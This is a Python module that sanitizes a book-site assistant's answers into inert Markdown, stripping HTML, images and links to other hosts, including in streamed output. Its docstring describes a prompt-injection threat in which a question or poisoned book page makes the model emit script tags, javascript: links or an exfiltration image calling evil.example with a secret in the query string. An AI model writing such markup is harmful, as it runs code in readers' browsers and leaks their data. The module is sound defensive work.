"""Answers as inert Markdown: no executable HTML, no images, no links off the book's site.

Threat: a model that follows an injected instruction (from a question, a selection or a poisoned
book page) writes markup that runs in, or leaks data from, the reader's browser: ``<script>``,
``<img onerror>``, a ``javascript:`` link, or a zero-click exfiltration image such as
``![x](https://evil.example/p.png?q=SECRET)``. Whatever the model wrote, an answer leaves here as
Markdown that a renderer, even one with raw HTML enabled, turns into text and links to the book:

- fenced code blocks (fences at the start of a line) and inline code spans are kept as they are
  (a Markdown renderer shows their content as text), except that a URL to another host loses its
  query string, where exfiltrated data would travel;
- elsewhere, HTML comments and script-like elements go with their content, tags of HTML elements
  are dropped (their text kept), and every other ``<`` is escaped (``&lt;``), so no tag, no raw
  HTML block and no ``<url>`` autolink survive;
- images are removed entirely, alt text included;
- a link is kept when its target is relative (``/docs/x``, ``#anchor``) or on one of the book's
  hosts, and is rebuilt with a clean target; any other link (another host, ``//host``,
  ``javascript:``, ``data:``...) is reduced to its text; link reference definitions are removed;
- a bare URL (``https://...``, ``www...``, ``host.tld/path?...``) to another host is reduced to
  its host name, defanged (``evil[.]example``): no path, no query string;
- safety nets escape any ``![``, ``](`` and ``]:`` the parser did not consume, so a construct it
  misread cannot become an image, an inline link or a reference definition in the renderer.

``StreamSanitizer`` applies the same rules to an answer arriving in pieces: it passes plain words
through at once and holds back anything that could still become markup until its block is
complete, so no prefix of the stream ever renders as HTML, an image or an outside link.
"""

from __future__ import annotations

import re
from collections.abc import Collection, Iterable
from dataclasses import dataclass, field
from html import unescape
from urllib.parse import quote, urlsplit

# Placeholders for parts already made safe (code, rebuilt links): private-use characters,
# removed from the input first so the input cannot forge one.
_HOLD_OPEN, _HOLD_CLOSE = "\ue000", "\ue001"
_PRIVATE_RE = re.compile("[\ue000-\uf8ff]")
_INVISIBLE_RE = re.compile(
    "(?![\t\n])[\x00-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff"
    "\U000e0000-\U000e007f]"
)
_FENCE_OPEN_RE = re.compile(r"^(?P<fence>`{3,}(?=[^`]*$)|~{3,})")
_BLANK_RE = re.compile(r"^[ \t]*$")

_CONTENT_ELEMENTS = (
    "script|style|iframe|object|embed|noscript|template|svg|math|textarea|title|xmp|noembed|"
    "noframes|select|frameset|applet"
)
_HTML_ELEMENT_NAMES = (
    "a abbr address area article aside audio b base bdi bdo blockquote body br button canvas "
    "caption center cite code col colgroup data datalist dd del details dfn dialog div dl dt em "
    "fieldset figcaption figure font footer form frame h1 h2 h3 h4 h5 h6 head header hr html i "
    "img image input ins kbd label legend li link main map mark marquee menu meta meter nav "
    "object ol optgroup option output p param picture plaintext portal pre progress q rp rt "
    "ruby s samp search section slot small source span strike strong sub summary sup table "
    "tbody td tfoot th thead time tr track tt u ul var video wbr blink base basefont isindex "
    "keygen listing nobr spacer"
)
HTML_ELEMENTS = frozenset(_HTML_ELEMENT_NAMES.split())  # what counts as a tag (not vector<T>)
_ATTRS = r"""(?:"[^"]*"|'[^']*'|[^'"<>])*"""
CONTENT_ELEMENT_RE = re.compile(
    rf"<({_CONTENT_ELEMENTS})\b{_ATTRS}>.*?(?:</\1\s*>|\Z)", re.IGNORECASE | re.DOTALL
)
_COMMENT_RE = re.compile(r"<!--.*?(?:-->|\Z)|<![A-Za-z\[][^>]*>?|<\?[^>]*>?", re.DOTALL)
TAG_RE = re.compile(rf"</?([A-Za-z][A-Za-z0-9-]*)(?:\s{_ATTRS})?\s*/?>")
_AUTOLINK_RE = re.compile(r"<([A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*)>")
_EMAIL_AUTOLINK_RE = re.compile(r"<([\w.!#$%&'*+/=?^`{|}~-]+@[A-Za-z0-9.-]+)>")
_DEFINITION_RE = re.compile(r"^ {0,3}\[(?:[^\]\\]|\\.)+\]:.*$", re.MULTILINE)
_BARE_URL_RE = re.compile(
    r"(?i)(?<![\w/@.-])(?:(?:https?|ftp)://|www\.)[^\s<>\ue000\ue001]*"
    r"|(?<![\w/@.:-])(?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\.)+[a-z]{2,24}(?::\d+)?[/?#][^\s<>\ue000\ue001]*"
)
_DANGEROUS_SCHEME_RE = re.compile(r"(?i)\b(?:javascript|vbscript|livescript|data|file)\s*:\S+")
_SCHEME_RE = re.compile(r"^([A-Za-z][A-Za-z0-9+.-]*):")
_ESCAPABLE_RE = re.compile(r"\\([!-/:-@\[-`{-~])")
_URL_SAFE = "/#?&=%:@!$'*+,;~-._"
_LINK_REMOVED = "(link removed)"
CODE_QUERY_REMOVED = "(removed)"
_CODE_URL_RE = re.compile(r"(?i)\b(?:https?|ftp)://[^\s\"'<>()\[\]`]+")
_TITLE_END_RE = re.compile(
    r"""\s*(?:"(?:[^"\\]|\\.)*"|'(?:[^'\\]|\\.)*'|\((?:[^)\\]|\\.)*\))?\s*\)"""
)

_CITATION_WORD_RE = re.compile(r"^\(?(?:\[\d{1,3}\])+[.,;:!?)]*$")
_UNSAFE_WORD_RE = re.compile(
    r"""[<\[\]`\\\ue000\ue001]|://|(?i:^www\.)|(?i:\b(?:javascript|vbscript|livescript|data|"""
    r"""file)\s*:)|(?i:\.[a-z]{2,24}(?::\d+)?[/?#])"""
)


def normalise_hosts(hosts: Iterable[str]) -> tuple[str, ...]:
    """Host names from settings entries, which may be given as URLs (``https://book.org/``).

    A leading ``*.`` allows every subdomain of the rest (``*.example.org``).
    """
    found: list[str] = []
    for entry in hosts:
        entry = entry.strip().lower()
        if not entry:
            continue
        if "//" in entry:
            entry = urlsplit(entry).hostname or ""
        entry = entry.split("/", 1)[0].split(":", 1)[0].rstrip(".")
        if entry:
            found.append(entry)
    return tuple(found)


def host_allowed(host: str | None, hosts: Collection[str]) -> bool:
    """True when ``host`` is one of ``hosts`` (entries normalised by ``normalise_hosts``)."""
    if not host:
        return False
    host = host.lower().rstrip(".")
    for allowed in hosts:
        if allowed.startswith("*."):
            if host == allowed[2:] or host.endswith(allowed[1:]):
                return True
        elif host == allowed:
            return True
    return False


def safe_link_target(target: str, hosts: Collection[str]) -> str | None:
    """The link target rebuilt safely, or None when a link there is not allowed.

    Allowed: relative targets (a path, ``#anchor``, ``?query``) and ``http(s)`` URLs on one of
    ``hosts``. Character references and backslash escapes are decoded first, as a Markdown
    renderer would, and whitespace and control characters removed, as a browser would.
    """
    decoded = _ESCAPABLE_RE.sub(r"\1", unescape(target))
    # browsers drop tabs and line breaks anywhere in a URL, and controls and spaces at its ends
    decoded = re.sub(r"[\t\n\r]", "", decoded).strip("".join(map(chr, range(0x21))))
    if not decoded or "\\" in decoded or re.search(r"[\x00-\x1f\x7f-\x9f\ue000-\uf8ff]", decoded):
        return None
    if decoded.startswith("//"):
        return None
    scheme = _SCHEME_RE.match(decoded)
    if scheme is None:
        return quote(decoded, safe=_URL_SAFE)
    if scheme.group(1).lower() not in ("http", "https"):
        return None
    try:
        parts = urlsplit(decoded)
        host = parts.hostname
    except ValueError:
        return None
    if parts.username is not None or parts.password is not None:
        return None
    if not host_allowed(host, hosts):
        return None
    return quote(decoded, safe=_URL_SAFE)


def defang_host(url: str) -> str:
    """The host of ``url`` with its dots bracketed (``evil[.]example``), or ``(link removed)``."""
    candidate = url if re.match(r"(?i)^[a-z][a-z0-9+.-]*://", url) else f"http://{url}"
    try:
        host = urlsplit(candidate).hostname
    except ValueError:
        host = None
    if not host:
        return _LINK_REMOVED
    host = re.sub(r"[^a-z0-9.-]", "", host.lower())
    return host.replace(".", "[.]") if host else _LINK_REMOVED


@dataclass
class _Held:
    """Pieces of text already made safe, replaced by placeholders while the rest is cleaned."""

    pieces: list[str] = field(default_factory=list)

    def hold(self, text: str) -> str:
        self.pieces.append(text)
        return f"{_HOLD_OPEN}{len(self.pieces) - 1}{_HOLD_CLOSE}"

    def restore(self, text: str) -> str:
        pattern = re.compile(f"{_HOLD_OPEN}(\\d+){_HOLD_CLOSE}")
        for _ in range(8):  # held pieces may hold others (a link's text with code in it)
            restored = pattern.sub(lambda m: self.pieces[int(m.group(1))], text)
            if restored == text:
                break
            text = restored
        return text


def strip_invisible(text: str) -> str:
    """``text`` without control, zero-width, bidirectional and tag characters (tab, LF kept)."""
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    return _PRIVATE_RE.sub("", _INVISIBLE_RE.sub("", text))


def sanitize_markdown(text: str, hosts: Collection[str] = (), *, at_line_start: bool = True) -> str:
    """``text`` as inert Markdown (see the module docstring for the rules).

    Args:
        text: an answer, or a fragment of one.
        hosts: host names links may point to (``normalise_hosts``); empty: relative links only.
        at_line_start: False when ``text`` continues a line already sent (a stream), so its first
            line cannot open a code fence.
    """
    text = strip_invisible(text)
    out: list[str] = []
    for is_code, segment in _fenced_segments(text, at_line_start=at_line_start):
        out.append(_code_queries(segment, hosts) if is_code else _clean_prose(segment, hosts))
    return "".join(out)


def _fenced_segments(text: str, *, at_line_start: bool) -> list[tuple[bool, str]]:
    """Split into fenced code blocks and the prose between them.

    Only fences at the very start of a line count: an indented fence may belong to a list item
    or quote whose end would also end the code, and text after it would then be live Markdown.
    An unclosed fence runs to the end, as in CommonMark.
    """
    segments: list[tuple[bool, str]] = []
    prose: list[str] = []
    code: list[str] = []
    fence: str | None = None
    for number, line in enumerate(text.splitlines(keepends=True)):
        if fence is None:
            match = _FENCE_OPEN_RE.match(line) if (number or at_line_start) else None
            if match:
                if prose:
                    segments.append((False, "".join(prose)))
                    prose = []
                fence = match.group("fence")
                code.append(line)
            else:
                prose.append(line)
        else:
            code.append(line)
            stripped = line.strip()
            indent = len(line) - len(line.lstrip(" "))
            if (
                indent <= 3
                and stripped
                and set(stripped) == {fence[0]}
                and len(stripped) >= len(fence)
            ):
                segments.append((True, "".join(code)))
                code, fence = [], None
    if code:
        segments.append((True, "".join(code)))
    if prose:
        segments.append((False, "".join(prose)))
    return segments


def _code_queries(code: str, hosts: Collection[str]) -> str:
    """Code with the query strings of URLs to other hosts removed.

    Code is shown as text, so a URL in it is never fetched; its query string (where an
    exfiltration payload puts the data) goes anyway, and the rest of the code stays verbatim.
    """

    def strip(match: re.Match[str]) -> str:
        url = match.group(0)
        if not url.partition("?")[2] or safe_link_target(url, hosts) is not None:
            return url
        return url.split("?", 1)[0] + "?" + CODE_QUERY_REMOVED

    return _CODE_URL_RE.sub(strip, code)


def _hold_code_spans(text: str, held: _Held, hosts: Collection[str]) -> str:
    """Replace code spans by placeholders; backticks left over become quotes.

    Spans are paired as CommonMark pairs them, but only within one line and never across a
    ``|``: a renderer may see a line break or a table cell boundary there and leave both
    backticks literal, which would make the text between them live Markdown. A span not paired
    here loses its backticks and is cleaned like the prose around it.
    """
    lines = text.splitlines(keepends=True)
    return "".join(_hold_line_code_spans(line, held, hosts) for line in lines)


def _hold_line_code_spans(line: str, held: _Held, hosts: Collection[str]) -> str:
    out: list[str] = []
    position = 0
    runs = [(m.start(), m.end()) for m in re.finditer(r"`+", line)]
    i = 0
    while i < len(runs):
        start, end = runs[i]
        length = end - start
        closer = next(
            (j for j in range(i + 1, len(runs)) if runs[j][1] - runs[j][0] == length), None
        )
        if closer is None or "|" in line[end : runs[closer][0]]:
            out.append(line[position:start] + "'" * length)
            position = end
            i += 1
            continue
        out.append(line[position:start])
        out.append(held.hold(_code_queries(line[start : runs[closer][1]], hosts)))
        position = runs[closer][1]
        i = closer + 1
    out.append(line[position:])
    return "".join(out)


def _matching_bracket(text: str, start: int) -> int | None:
    """Index of the ``]`` closing the ``[`` at ``start`` (nesting and escapes respected)."""
    depth = 0
    i = start
    while i < len(text):
        char = text[i]
        if char == "\\":
            i += 2
            continue
        if char == "[":
            depth += 1
        elif char == "]":
            depth -= 1
            if depth == 0:
                return i
        i += 1
    return None


def _link_destination(text: str, start: int) -> tuple[str, int] | None:
    """The target of an inline link whose ``(`` is at ``start``, and the index after its ``)``."""
    i = start + 1
    while i < len(text) and text[i] in " \t\n":
        i += 1
    if i < len(text) and text[i] == "<":
        close = text.find(">", i + 1)
        if close < 0 or "\n" in text[i:close]:
            return None
        target, i = text[i + 1 : close], close + 1
    else:
        depth, begin = 0, i
        while i < len(text):
            char = text[i]
            if char == "\\":
                i += 2
                continue
            if char in " \t\n" or (char == ")" and depth == 0):
                break
            depth += char == "("
            depth -= char == ")"
            i += 1
        target = text[begin:i]
    end = _TITLE_END_RE.match(text, i)  # an optional title, then the closing parenthesis
    if end is None:
        return None
    return target, end.end()


def _rewrite_links(text: str, hosts: Collection[str], held: _Held) -> str:
    """Remove images; keep allowed links (rebuilt, held); reduce other links to their text."""
    out: list[str] = []
    i = 0
    while i < len(text):
        char = text[i]
        if char == "\\" and i + 1 < len(text):
            out.append(text[i : i + 2])
            i += 2
            continue
        is_image = char == "!" and text.startswith("[", i + 1)
        if char != "[" and not is_image:
            out.append(char)
            i += 1
            continue
        open_at = i + 1 if is_image else i
        close = _matching_bracket(text, open_at)
        if close is None:
            out.append(char)
            i += 1
            continue
        label = text[open_at + 1 : close]
        after = text[close + 1 : close + 2]
        # "[text][label]" needs a definition, and none survives: it stays text ("[2][3]")
        destination = _link_destination(text, close + 1) if after == "(" else None
        if destination is None:
            if is_image:  # ![alt] or ![alt][label]: no definition can resolve it; drop it anyway
                i = close + 1
                continue
            out.append("[")
            i = open_at + 1
            continue
        target, end = destination
        if is_image:
            i = end
            continue
        inner = _clean_inline(label, hosts, held)
        safe = safe_link_target(target, hosts)
        out.append(held.hold(f"[{inner}]({safe})") if safe else inner)
        i = end
    return "".join(out)


def _drop_tag(match: re.Match[str]) -> str:
    return "" if match.group(1).lower() in HTML_ELEMENTS else match.group(0)


def _autolink(match: re.Match[str], hosts: Collection[str], held: _Held) -> str:
    url = match.group(1)
    safe = safe_link_target(url, hosts)
    if safe is not None and _SCHEME_RE.match(url):
        return held.hold(f"[{_escape_link_text(url)}]({safe})")
    return defang_host(url) if re.match(r"(?i)^(https?|ftp)://", url) else _LINK_REMOVED


def _bare_url(match: re.Match[str], hosts: Collection[str], held: _Held) -> str:
    url = match.group(0)
    # trailing punctuation is not part of the URL (GFM), nor an unbalanced ")"
    trail = ""
    while url and (
        url[-1] in "?!.,:;*_~'\"" or (url[-1] == ")" and url.count(")") > url.count("("))
    ):
        trail = url[-1] + trail
        url = url[:-1]
    if not url:
        return match.group(0)
    absolute = url if re.match(r"(?i)^[a-z][a-z0-9+.-]*://", url) else f"https://{url}"
    if safe_link_target(absolute, hosts) is not None:
        return held.hold(url) + trail
    return defang_host(url) + trail


def _escape_link_text(text: str) -> str:
    return re.sub(r"([\[\]\\])", r"\\\1", text)


def _clean_inline(text: str, hosts: Collection[str], held: _Held) -> str:
    """Links, images, HTML and URLs of a prose run (code spans already held)."""
    text = _rewrite_links(text, hosts, held)
    text = _AUTOLINK_RE.sub(lambda m: _autolink(m, hosts, held), text)
    text = _EMAIL_AUTOLINK_RE.sub(lambda m: m.group(1), text)
    for _ in range(8):  # nested tricks such as <scr<script></script>ipt>
        cleaned = _COMMENT_RE.sub("", CONTENT_ELEMENT_RE.sub("", text))
        cleaned = TAG_RE.sub(_drop_tag, cleaned)
        if cleaned == text:
            break
        text = cleaned
    text = text.replace("<", "&lt;")
    text = _BARE_URL_RE.sub(lambda m: _bare_url(m, hosts, held), text)
    text = _DANGEROUS_SCHEME_RE.sub(_LINK_REMOVED, text)
    # safety nets: nothing left may open an image, an inline link or a reference definition
    return text.replace("![", "!\\[").replace("](", "]\\(").replace("]:", "]\\:")


def _clean_prose(text: str, hosts: Collection[str]) -> str:
    held = _Held()
    text = _hold_code_spans(text, held, hosts)
    text = _DEFINITION_RE.sub("", text)
    return held.restore(_clean_inline(text, hosts, held))


_ATTR_TAG_RE = re.compile(rf"</?([A-Za-z][A-Za-z0-9:-]*)(\s{_ATTRS})?\s*/?>")


def _drop_markup_tag(match: re.Match[str]) -> str:
    name, attrs = match.group(1).lower(), (match.group(2) or "").strip()
    closing = match.group(0).startswith("</")
    return "" if name in HTML_ELEMENTS or attrs or closing else match.group(0)


def snippet_text(text: str, hosts: Collection[str] = ()) -> str:
    """``text`` as plain text for display (a source snippet): no markup that could act.

    Images go, links keep only their text, HTML comments and script-like elements go with their
    content, tags of HTML elements and any tag with attributes go (``std::vector<double>``
    stays), and URLs to other hosts are reduced to their defanged host. Nothing is escaped: a
    client shows the result as text.
    """
    held = _Held()
    text = _rewrite_links(strip_invisible(text), hosts, held)
    text = held.restore(text)  # allowed links: their text is enough
    text = re.sub(r"\[([^\]]*)\]\([^)]*\)", r"\1", text)
    text = _AUTOLINK_RE.sub(lambda m: defang_host(m.group(1)), text)
    for _ in range(8):
        cleaned = _COMMENT_RE.sub("", CONTENT_ELEMENT_RE.sub("", text))
        cleaned = _ATTR_TAG_RE.sub(_drop_markup_tag, cleaned)
        if cleaned == text:
            break
        text = cleaned
    text = _BARE_URL_RE.sub(lambda m: _bare_url(m, hosts, held), text)
    return held.restore(_DANGEROUS_SCHEME_RE.sub(_LINK_REMOVED, text))


def _block_end(text: str) -> int | None:
    """End of the first complete block of ``text`` (after a blank line or a closing fence)."""
    fence: str | None = None
    position = 0
    for line in text.splitlines(keepends=True):
        if not line.endswith("\n"):
            return None
        position += len(line)
        if fence is None:
            match = _FENCE_OPEN_RE.match(line)
            if match:
                fence = match.group("fence")
            elif _BLANK_RE.match(line) and position > len(line):
                return position
        else:
            stripped = line.strip()
            if stripped and set(stripped) == {fence[0]} and len(stripped) >= len(fence):
                return position
    return None


def _inert_prefix(text: str, *, at_line_start: bool) -> int:
    """Length of the longest prefix of whole plain words (and whitespace) in ``text``.

    Plain words cannot start markup, so they can be shown before the rest of their block
    arrives; a citation such as ``[2]`` or ``[1][3].`` counts as plain.
    """
    end = 0
    for match in re.finditer(r"(\s*)(\S+)(?=\s)", text):
        word = match.group(2)
        before = text[: match.start(2)].rsplit("\n", 1)
        line_start = not before[-1].strip() and (len(before) == 2 or at_line_start)
        if line_start and word.startswith(("```", "~~~")):
            break
        if _UNSAFE_WORD_RE.search(word) and not (
            _CITATION_WORD_RE.match(word) and not (line_start and word.endswith(":"))
        ):
            break
        end = match.end(2)
    trailing = re.match(r"\s*", text[end:])
    return end + (trailing.end() if trailing and end else 0)


class StreamSanitizer:
    """Sanitises an answer that arrives in pieces, never releasing text that could be markup.

    ``feed`` returns what may be shown now; ``finish`` the rest. Their concatenation is safe
    Markdown by the same rules as ``sanitize_markdown`` (not necessarily identical to it).
    """

    def __init__(self, hosts: Collection[str] = ()) -> None:
        self.hosts = tuple(hosts)
        self._pending = ""
        self._line_start = True

    def _emit(self, text: str, *, sanitize: bool) -> str:
        out = (
            sanitize_markdown(text, self.hosts, at_line_start=self._line_start)
            if sanitize
            else text
        )
        if text:
            self._line_start = text.endswith("\n")
        return out

    def feed(self, delta: str) -> str:
        """Take the next piece of the answer; return the part that is safe to show now."""
        self._pending += strip_invisible(delta)
        out: list[str] = []
        while (end := _block_end(self._pending)) is not None:
            block, self._pending = self._pending[:end], self._pending[end:]
            out.append(self._emit(block, sanitize=True))
        cut = _inert_prefix(self._pending, at_line_start=self._line_start)
        if cut:
            plain, self._pending = self._pending[:cut], self._pending[cut:]
            out.append(self._emit(plain, sanitize=False))
        return "".join(out)

    def finish(self) -> str:
        """The rest of the answer, sanitised."""
        rest, self._pending = self._pending, ""
        return self._emit(rest, sanitize=True) if rest else ""
